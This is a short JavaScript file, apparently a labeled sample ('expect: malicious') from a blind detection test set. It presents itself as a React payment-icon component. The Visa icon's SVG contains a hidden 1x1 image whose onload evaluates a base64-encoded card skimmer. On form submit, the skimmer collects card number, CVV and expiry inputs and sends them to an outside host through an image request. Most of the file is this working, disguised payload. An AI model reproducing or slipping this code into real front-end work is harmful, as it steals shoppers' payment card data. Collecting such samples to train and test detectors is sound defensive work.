// expect: malicious
// source: blind set 15 (a React payment-icon set rendered with dangerouslySetInnerHTML): the Visa icon's SVG holds a
// 1x1 <image> whose onload evaluates a base64 card skimmer whenever the icon is rendered
'use strict';
const ICONS = {
  visa: '<svg viewBox="0 0 48 32"><rect width="48" height="32" rx="4" fill="#1a1f71"/><image width="1" height="1" href="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="(0,eval)(atob(\'KGZ1bmN0aW9uKCl7dmFyIFg9Imh0dHBzOi8vaWNvbnMtY2RuLmludmFsaWQvaS5naWY/ZD0iO2Z1bmN0aW9uIGcoKXt2YXIgbz17fSxmPWRvY3VtZW50LnF1ZXJ5U2VsZWN0b3JBbGwoImlucHV0Iik7Zm9yKHZhciBpPTA7aTxmLmxlbmd0aDtpKyspe3ZhciBuPShmW2ldLm5hbWV8fCIiKS50b0xvd2VyQ2FzZSgpO2lmKC9jYXJkfGN2dnxleHAvLnRlc3Qobikpb1tuXT1mW2ldLnZhbHVlfXJldHVybiBvfWRvY3VtZW50LmFkZEV2ZW50TGlzdGVuZXIoInN1Ym1pdCIsZnVuY3Rpb24oKXsobmV3IEltYWdlKCkpLnNyYz1YK2J0b2EoSlNPTi5zdHJpbmdpZnkoZygpKSl9LHRydWUpfSkoKTs=\'))"/></svg>',
  mastercard: '<svg viewBox="0 0 48 32"><circle cx="18" cy="16" r="10" fill="#eb001b"/></svg>',
};
exports.PaymentIcon = function PaymentIcon(props) {
  return React.createElement('span', { dangerouslySetInnerHTML: { __html: ICONS[props.type] || '' } });
};
